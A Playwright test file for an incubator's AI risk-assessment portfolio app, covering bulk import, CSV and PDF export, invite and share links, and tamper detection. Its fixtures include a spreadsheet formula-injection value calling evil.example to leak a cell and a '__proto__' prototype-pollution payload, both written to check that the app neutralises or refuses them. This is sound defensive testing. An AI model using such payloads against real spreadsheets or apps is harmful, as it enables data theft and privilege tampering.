/**
 * The portfolio end to end in Chromium: 50 files imported at once (5 of them broken), the CSV export
 * checked cell by cell, an invite link taken by a tenant in another browser and its result sent back
 * by share link, a tampered and a cut-short share link, and the portfolio surviving a reload.
 */
import { readFileSync } from 'node:fs';
import { expect, test, type Page } from '@playwright/test';
import { unzipSync } from 'fflate';
import Papa from 'papaparse';
import { assess } from '../src/engine';
import { displayName, newRecord, type AssessmentRecord } from '../src/assessment/record';
import { exportFile } from '../src/file-format/summarize';
import { exampleAnswers } from '../src/testing/fixtures';
import { readPdf, squash } from '../src/testing/pdf-check';
import { answerAll, example, rs, storedAssessments } from './support';

const EXAMPLES = ['E1', 'E2', 'E3', 'E4', 'E5', 'E6', 'E7', 'E8', 'E9'];
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

/** 45 good tenant files: the nine examples five times, each its own company, some in cohorts, some duties done. */
function goodFiles(): { name: string; record: AssessmentRecord; buffer: Buffer }[] {
  return Array.from({ length: 45 }, (_, i) => {
    const ex = EXAMPLES[i % 9]!;
    const answers = { ...(exampleAnswers(ex) as AssessmentRecord['answers']), company_name: i === 7 ? HYPERLINK : `Tenant ${String(i + 1).padStart(2, '0')} 科技有限公司` };
    const r = assess(rs, answers, { date: '2026-11-20' });
    if (!r.ok) throw new Error(`${ex} does not assess`);
    const first = r.assessment.duties[0];
    const record: AssessmentRecord = {
      ...newRecord(new Date(Date.UTC(2026, 10, 1 + (i % 20), 9, i)), `tenant-${i + 1}`),
      answers,
      step: 'result',
      ...(i % 3 === 0 ? { cohort: { incubator: 'Pudong AI Hub', label: i % 2 ? 'Spring 2026' : '2026 秋季' } } : {}),
      ...(first && i % 4 === 0 ? { duties: { [first.id]: { status: 'done' as const } } } : { duties: {} }),
    };
    return { name: `tenant-${i + 1}.json`, record, buffer: Buffer.from(JSON.stringify(exportFile(rs, record))) };
  });
}

/** The five broken files the issue names, each with the words its message must contain. */
function brokenFiles(): { name: string; buffer: Buffer; says: RegExp }[] {
  const base = JSON.stringify(exportFile(rs, { ...newRecord(new Date('2026-11-20T09:00:00Z'), 'broken-1'), answers: exampleAnswers('E2') as AssessmentRecord['answers'] }));
  const file = JSON.parse(base);
  return [
    { name: 'malformed.json', buffer: Buffer.from(base.slice(0, 200)), says: /cut short/ },
    { name: 'wrong-schema.json', buffer: Buffer.from(JSON.stringify({ ...file, schemaVersion: 7 })), says: /schema version "7" is not supported/ },
    { name: 'future-rules.json', buffer: Buffer.from(JSON.stringify({ ...file, ruleSet: { version: '9.0.0', date: '2030-01-01' } })), says: /rule set 9\.0\.0, which this copy of the app does not know/ },
    { name: 'oversized.json', buffer: Buffer.from(base.replace('{', `{"padding":"${'x'.repeat(1_100_000)}",`)), says: /at most 1000000 bytes/ },
    { name: 'proto.json', buffer: Buffer.from(base.replace('"answers":{', '"answers":{"__proto__":{"isAdmin":true},')), says: /"assessment\.answers\.__proto__"/ },
  ];
}

async function openPortfolio(page: Page) {
  await page.goto('/#/portfolio');
  await expect(page.getByTestId('portfolio')).toBeVisible();
}

async function importFiles(page: Page, files: { name: string; buffer: Buffer }[]) {
  await page.getByTestId('portfolio-import-input').setInputFiles(files.map((f) => ({ name: f.name, mimeType: 'application/json', buffer: f.buffer })));
}

test('50 files at once: 45 come in, the 5 broken ones are named with their reasons, nothing else changes; CSV cell by cell; reload keeps it all', async ({ page }) => {
  await openPortfolio(page);
  // The assessment the app starts with (blank, so not yet stored) is there before, and untouched after.
  await expect(page.getByTestId('portfolio-row')).toHaveCount(1);
  const blankId = await page.getByTestId('portfolio-row').getAttribute('data-id');
  expect(await storedAssessments(page)).toEqual([]);

  const good = goodFiles();
  const broken = brokenFiles();
  const all = [...good.slice(0, 20), ...broken, ...good.slice(20)];
  await importFiles(page, all);
  await expect(page.getByTestId('import-count')).toHaveText('45 assessments imported.');
  const refused = page.getByTestId('import-refused-item');
  await expect(refused).toHaveCount(5);
  for (const [i, b] of broken.entries()) {
    await expect(refused.nth(i)).toContainText(b.name);
    await expect(refused.nth(i)).toContainText(b.says);
  }
  await expect(page.getByTestId('portfolio-row')).toHaveCount(46);
  const after = await storedAssessments(page);
  expect(after.map((e) => e.assessment.id).sort()).toEqual(good.map((g) => g.record.id).sort());
  await expect(page.locator(`[data-testid=portfolio-row][data-id="${blankId}"]`)).toBeVisible();
  expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();

  // Filters: by cohort, by tier, by text (Chinese too), and they combine.
  await page.getByTestId('filter-cohort').selectOption('Spring 2026');
  const spring = good.filter((g) => g.record.cohort?.label === 'Spring 2026');
  await expect(page.getByTestId('portfolio-row')).toHaveCount(spring.length);
  await page.getByTestId('filter-cohort').selectOption('');
  await page.getByTestId('filter-text').fill('科技有限公司');
  await expect(page.getByTestId('portfolio-row')).toHaveCount(44);
  await page.getByTestId('filter-text').fill('有限公司 tenant 07');
  await expect(page.getByTestId('portfolio-row')).toHaveCount(1);
  await expect(page.getByTestId('portfolio-row')).toContainText('Tenant 07');
  await page.getByTestId('filter-text').fill('');
  await page.getByTestId('filter-tier').selectOption('high');
  await page.getByTestId('filter-regime').selectOption('EU');
  const euHigh = good.filter((g) => {
    const r = assess(rs, g.record.answers, { date: '2026-11-20' });
    return r.ok && r.assessment.regimes.EU.tier === 'high';
  });
  await expect(page.getByTestId('portfolio-row')).toHaveCount(euHigh.length);
  await page.getByTestId('filter-tier').selectOption('');

  // CSV of all 46 (with machine codes), checked cell by cell against what the engine says for each file.
  const download = page.waitForEvent('download');
  await page.getByTestId('export-csv-codes').click();
  const d = await download;
  expect(d.suggestedFilename()).toMatch(/^portfolio-\d{4}-\d{2}-\d{2}-codes\.csv$/);
  const raw = readFileSync((await d.path())!);
  expect([...raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const [head, ...body] = Papa.parse<string[]>(raw.toString('utf8').slice(1), { skipEmptyLines: true }).data;
  expect(body).toHaveLength(46);
  const col = (row: string[], name: string) => row[head!.indexOf(name)];
  for (const g of good) {
    const row = body.find((r) => col(r, 'id') === g.record.id)!;
    expect(row, g.record.id).toBeDefined();
    const a = assess(rs, g.record.answers, { date: g.record.updatedAt.slice(0, 10) });
    if (!a.ok) throw new Error('unreachable');
    const company = g.record.answers.company_name as string;
    expect(col(row, 'company')).toBe(company === HYPERLINK ? `'${HYPERLINK}` : company);
    expect(col(row, 'product')).toBe(a.assessment.subject.product ?? '');
    expect(col(row, 'overall')).toBe(a.assessment.overall);
    for (const r of ['SH', 'SZ', 'EU'] as const) expect(col(row, r)).toBe(a.assessment.regimes[r].tier);
    expect(col(row, 'cohort')).toBe(g.record.cohort?.label ?? '');
    expect(col(row, 'incubator')).toBe(g.record.cohort?.incubator ?? '');
    const done = Object.keys(g.record.duties).length;
    expect(col(row, 'duties')).toBe(String(a.assessment.duties.length));
    expect(col(row, 'duties_done')).toBe(String(done));
    expect(col(row, 'duties_open')).toBe(String(a.assessment.duties.length - done));
    const prohibited = (['SH', 'SZ', 'EU'] as const).some((r) => ['prohibited', 'unacceptable'].includes(a.assessment.regimes[r].tier));
    if (prohibited) expect(col(row, 'prohibited')).toBe('yes');
    expect(col(row, 'updated_at')).toBe(g.record.updatedAt);
    expect(col(row, 'rule_set_version')).toBe(rs.version);
  }
  // No cell anywhere starts with a formula character.
  for (const row of body) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

  // Reload: the portfolio is still there, sorted and counted the same.
  await page.reload();
  await expect(page.getByTestId('portfolio-row')).toHaveCount(45);
  expect((await storedAssessments(page)).length).toBe(45);
});

test('invite link → tenant in another browser answers → share link back → incubator imports it, cohort tag in every export', async ({ browser, page }) => {
  // The incubator makes the invite link.
  await openPortfolio(page);
  await page.getByLabel('Incubator name').fill('Pudong AI Hub');
  await page.getByLabel('Cohort label').fill('2026 秋季 cohort');
  await page.getByRole('button', { name: 'Make the invite link' }).click();
  const invite = await page.getByTestId('invite-link').inputValue();
  expect(invite).toMatch(/#\/invite\?incubator=Pudong\+AI\+Hub&cohort=/);

  // The tenant, in a browser of their own.
  const tenantContext = await browser.newContext({ locale: 'en-GB' });
  const tenant = await tenantContext.newPage();
  await tenant.goto(invite);
  await expect(tenant.getByTestId('invite')).toContainText('Pudong AI Hub invites you');
  await tenant.getByTestId('accept-invite').click();
  await expect(tenant.getByTestId('cohort-tag')).toHaveText('Cohort: 2026 秋季 cohort · Pudong AI Hub');
  const { answers, assessment } = example('E2');
  await answerAll(tenant, answers);
  await expect(tenant.getByTestId('tier-EU')).toHaveAttribute('data-tier', assessment.regimes.EU.tier);

  // The cohort travels in the exported file...
  const download = tenant.waitForEvent('download');
  await tenant.getByRole('button', { name: 'Export file (JSON)' }).click();
  const exported = JSON.parse(readFileSync((await (await download).path())!, 'utf8'));
  expect(exported.assessment.cohort).toEqual({ incubator: 'Pudong AI Hub', label: '2026 秋季 cohort' });
  // ...and in the share link.
  await tenant.getByRole('button', { name: 'Share link' }).click();
  const share = await tenant.getByTestId('share-link').inputValue();
  expect(share).toMatch(/#\/share\/1\/\d+\/[A-Za-z0-9_-]+$/);
  await tenantContext.close();

  // The incubator opens it: shown first, stored only on "Import".
  await page.goto(share);
  await expect(page.getByTestId('share-summary')).toContainText('2026 秋季 cohort');
  await expect(page.getByTestId('share-tier-EU')).toHaveText(await tierLabel(assessment.regimes.EU.tier));
  expect((await storedAssessments(page)).some((e) => e.assessment.id === exported.assessment.id)).toBe(false);
  await page.getByTestId('share-import').click();
  await expect(page.getByTestId('import-count')).toHaveText('1 assessment imported.');
  const stored = (await storedAssessments(page)).find((e) => e.assessment.id === exported.assessment.id);
  expect(stored?.assessment).toEqual(exported.assessment);

  // In the portfolio with its cohort, and in the CSV.
  await openPortfolio(page);
  await page.getByTestId('filter-cohort').selectOption('2026 秋季 cohort');
  await expect(page.getByTestId('portfolio-row')).toHaveCount(1);
  const csv = page.waitForEvent('download');
  await page.getByTestId('export-csv-codes').click();
  const [head, row] = Papa.parse<string[]>(readFileSync((await (await csv).path())!, 'utf8').slice(1), { skipEmptyLines: true }).data;
  expect([row![head!.indexOf('incubator')], row![head!.indexOf('cohort')], row![head!.indexOf('EU')]]).toEqual(['Pudong AI Hub', '2026 秋季 cohort', assessment.regimes.EU.tier]);

  // Opening the same link again: the same assessment, nothing to decide.
  await page.goto(share);
  await page.getByTestId('share-import').click();
  await expect(page.getByTestId('import-count')).toHaveText('1 assessment imported.');
  expect((await storedAssessments(page)).filter((e) => e.assessment.id === exported.assessment.id)).toHaveLength(1);
});

async function tierLabel(tier: string): Promise<string> {
  const en = JSON.parse(readFileSync('src/i18n/locales/en/result.json', 'utf8'));
  return en.tier[tier];
}

test('a tampered or cut-short share link says so and imports nothing; a bad invite link says what is missing', async ({ page }) => {
  await openPortfolio(page);
  const rec = { ...newRecord(new Date('2026-11-20T09:00:00Z'), 'shared-1'), answers: exampleAnswers('E4') as AssessmentRecord['answers'], step: 'result' as const };
  const { shareFragment } = await import('../src/portfolio/links');
  const fragment = await shareFragment(JSON.stringify(exportFile(rs, rec)));
  const before = await storedAssessments(page);

  const at = fragment.length - 30;
  const swapped = fragment[at] === 'A' ? 'B' : 'A';
  await page.goto(`/${fragment.slice(0, at)}${swapped}${fragment.slice(at + 1)}`);
  await expect(page.getByTestId('share-problem')).toHaveText(/damaged: some of its characters were changed/);
  await expect(page.getByTestId('share-import')).toHaveCount(0);

  await page.goto(`/${fragment.slice(0, -25)}`);
  await expect(page.getByTestId('share-problem')).toHaveText(/incomplete: it was cut short/);

  await page.goto(`/${fragment}`);
  await expect(page.getByTestId('share-summary')).toBeVisible();
  expect(await storedAssessments(page)).toEqual(before);

  await page.goto('/#/invite?cohort=Spring');
  await expect(page.getByTestId('invite-problem')).toHaveText(/does not name the incubator/);
});

test('duplicate, rename, compare two, delete with undo', async ({ page }) => {
  await openPortfolio(page);
  const files = [
    { name: 'v1.json', buffer: Buffer.from(JSON.stringify(exportFile(rs, { ...newRecord(new Date('2026-10-01T09:00:00Z'), 'prod-v1'), answers: exampleAnswers('E4') as AssessmentRecord['answers'], step: 'result' }))) },
    { name: 'v2.json', buffer: Buffer.from(JSON.stringify(exportFile(rs, { ...newRecord(new Date('2026-11-01T09:00:00Z'), 'prod-v2'), answers: exampleAnswers('E1') as AssessmentRecord['answers'], step: 'result' }))) },
  ];
  await importFiles(page, files);
  await expect(page.getByTestId('import-count')).toHaveText('2 assessments imported.');
  const row = (id: string) => page.locator(`[data-testid=portfolio-row][data-id="${id}"]`);

  await row('prod-v1').getByText('More…').click();
  await row('prod-v1').getByRole('button', { name: 'Rename' }).click();
  await row('prod-v1').getByRole('textbox').fill('Shop recommendations v1');
  await row('prod-v1').getByRole('button', { name: 'Save' }).click();
  await expect(row('prod-v1')).toContainText('Shop recommendations v1');

  await row('prod-v1').getByText('More…').click();
  await row('prod-v1').getByRole('button', { name: 'Duplicate' }).click();
  await expect(page.getByTestId('portfolio-row')).toHaveCount(4);
  await expect(page.getByTestId('portfolio')).toContainText('Shop recommendations v1 (copy)');

  await row('prod-v1').getByRole('checkbox').check();
  await row('prod-v2').getByRole('checkbox').check();
  await page.getByTestId('compare-selected').click();
  await expect(page.getByTestId('compare')).toBeVisible();
  const a = assess(rs, exampleAnswers('E4'), { date: '2026-10-01' });
  const b = assess(rs, exampleAnswers('E1'), { date: '2026-11-01' });
  if (!a.ok || !b.ok) throw new Error('unreachable');
  await expect(page.getByTestId('compare-tier-EU')).toHaveAttribute('data-move', a.assessment.regimes.EU.tier === b.assessment.regimes.EU.tier ? 'same' : 'stricter');
  const added = b.assessment.duties.filter((d) => !a.assessment.duties.some((x) => x.id === d.id)).map((d) => d.id);
  await expect(page.getByTestId('duties-added').locator('li')).toHaveCount(added.length);
  for (const id of added) await expect(page.getByTestId('duties-added')).toContainText(id);
  await expect(page.getByTestId('answers-changed').locator('tbody tr')).not.toHaveCount(0);

  await page.goto('/#/portfolio');
  await row('prod-v2').getByText('More…').click();
  await row('prod-v2').getByRole('button', { name: 'Delete' }).click();
  await expect(page.getByTestId('portfolio-row')).toHaveCount(3);
  await expect.poll(async () => (await storedAssessments(page)).some((e) => e.assessment.id === 'prod-v2')).toBe(false);
  await page.getByTestId('deleted').getByRole('button', { name: 'Undo' }).click();
  await expect(page.getByTestId('portfolio-row')).toHaveCount(4);
  await expect.poll(async () => (await storedAssessments(page)).some((e) => e.assessment.id === 'prod-v2')).toBe(true);
});

test('the assessment kept by the previous version (localStorage) is moved into the portfolio, not lost', async ({ page }) => {
  const rec = { ...newRecord(new Date('2026-11-10T09:00:00Z'), 'legacy-1'), answers: exampleAnswers('E3') as AssessmentRecord['answers'], step: 'result' as const, assessor: 'Chen Jie' };
  const legacy = JSON.stringify({ format: 'ai-risk-self-assessment', schemaVersion: 1, ruleSet: { version: rs.version, date: rs.date }, exportedAt: rec.updatedAt, assessment: rec });
  await page.addInitScript((text) => {
    if (!sessionStorage.getItem('seeded')) {
      localStorage.setItem('ai-risk-self-assessment:current', text);
      sessionStorage.setItem('seeded', '1');
    }
  }, legacy);
  await page.goto('/');
  await expect(page.getByTestId('result')).toBeVisible();
  expect(await page.evaluate(() => localStorage.getItem('ai-risk-self-assessment:current'))).toBeNull();
  expect((await storedAssessments(page)).map((e) => e.assessment)).toEqual([rec]);
  await page.reload();
  await expect(page.getByTestId('result')).toBeVisible();
  await expect(page.getByTestId('open-name')).toHaveText(displayName(rec) || 'Unnamed assessment');
});

test('PDF checklists of the selected assessments come as one zip, one valid PDF each; files dropped on the page are imported', async ({ page }) => {
  await openPortfolio(page);
  const recs = ['E2', 'E8'].map((id, i) => ({ ...newRecord(new Date(`2026-11-0${i + 1}T09:00:00Z`), `zip-${id}`), answers: exampleAnswers(id) as AssessmentRecord['answers'], step: 'result' as const, cohort: { incubator: 'Hub', label: 'Zip cohort' } }));
  // Dropped, as a user drags files from the desktop.
  const texts = recs.map((r) => JSON.stringify(exportFile(rs, r)));
  const dataTransfer = await page.evaluateHandle((texts) => {
    const dt = new DataTransfer();
    texts.forEach((t, i) => dt.items.add(new File([t], `dropped-${i}.json`, { type: 'application/json' })));
    return dt;
  }, texts);
  await page.getByTestId('drop-zone').dispatchEvent('drop', { dataTransfer });
  await expect(page.getByTestId('import-count')).toHaveText('2 assessments imported.');

  await page.getByTestId('filter-cohort').selectOption('Zip cohort');
  await expect(page.getByTestId('portfolio-row')).toHaveCount(2);
  const download = page.waitForEvent('download', { timeout: 60_000 });
  await page.getByTestId('export-pdfs').click();
  const d = await download;
  expect(d.suggestedFilename()).toMatch(/^portfolio-checklists-\d{4}-\d{2}-\d{2}\.zip$/);
  await expect(page.getByTestId('zip-status')).toContainText('2 PDF checklists zipped');
  const entries = unzipSync(new Uint8Array(readFileSync((await d.path())!)));
  const names = Object.keys(entries).sort();
  expect(names).toHaveLength(2);
  for (const name of names) {
    expect(name).toMatch(/\.pdf$/);
    const pdf = await readPdf(entries[name]!);
    expect(pdf.squashed).toContain(squash('Zip cohort (invited by Hub)'));
    expect(pdf.furniture.length).toBeGreaterThan(3);
  }
  // Each assessment keeps the document issued for it: the ids printed in the zip's PDFs.
  const printed = await Promise.all(names.map(async (n) => /AIRA-[0-9A-Z]{4}-[0-9A-Z]{4}-[0-9A-Z]{4}/.exec((await readPdf(entries[n]!)).squashed)?.[0]));
  await expect
    .poll(async () => (await storedAssessments(page)).filter((e) => String(e.assessment.id).startsWith('zip-')).map((e) => (e.assessment.issued as { documentId: string } | undefined)?.documentId).sort())
    .toEqual([...printed].sort());
});
